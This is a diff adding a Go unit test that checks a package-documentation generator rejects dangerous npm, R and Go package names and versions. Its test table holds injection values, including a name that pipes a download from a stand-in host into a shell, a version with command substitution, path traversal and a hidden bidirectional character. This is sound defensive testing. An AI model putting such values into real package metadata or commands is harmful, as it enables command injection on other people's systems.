@@ -189,6 +189,28 @@ func TestHasSkills(t *testing.T) {
 	}
 }
 
+// TestInvalid makes none of a package whose name or version could do something in a command.
+func TestInvalid(t *testing.T) {
+	long := strings.Repeat("n", 5000)
+	for _, c := range []struct{ ecosystem, name, version, what string }{
+		{"npm", "x; curl evil.example|sh", "1.0.0", "name"}, {"npm", "../../evil", "1.0.0", "name"}, {"npm", "@a/b/c", "1.0.0", "name"}, {"npm", long, "1.0.0", "name"}, {"npm", "", "1.0.0", "name"},
+		{"npm", "x", "1.0.0$(id)", "version"}, {"npm", "x", "..", "version"}, {"npm", "x", "1 0", "version"}, {"npm", "x", "", "version"}, {"npm", "x", strings.Repeat("1", 129), "version"},
+		{"r", "..x", "1.0", "name"}, {"r", "a\"b", "1.0", "name"}, {"r", "a-b", "1.0", "name"}, {"r", long + "\u202e", "1.0", "name"}, {"go", "example.com/a b", "1.0.0", "name"}, {"go", "a//b", "1.0.0", "name"},
+		{"npm", "@acme/a.b-c_d", "1.0.0-rc.1+x", ""}, {"r", "data.table", "1.14-2", ""}, {"go", "example.com/a/v2", "devel", ""}, {"npm", strings.Repeat("n", 214), "1.0.0", ""},
+	} {
+		s, err := Make(&pkgdoc.Package{Ecosystem: c.ecosystem, Name: c.name, Version: c.version, Title: "T"}, Options{Version: "1.0.0"})
+		var bad *Invalid
+		switch {
+		case c.what == "" && err != nil:
+			t.Errorf("%s %s: %v", c.name, c.version, err)
+		case c.what == "":
+			clean(t, s)
+		case !errors.As(err, &bad) || bad.What != c.what || s != nil || len(err.Error()) > 300 || strings.Contains(err.Error(), "\u202e"):
+			t.Errorf("%.100s %.100s: %v", c.name, c.version, err)
+		}
+	}
+}
+
 func BenchmarkMake(b *testing.B) {
 	p := &pkgdoc.Package{Ecosystem: "r", Name: "large", Version: "1.0", Title: "Large"}
 	for i := range 300 {
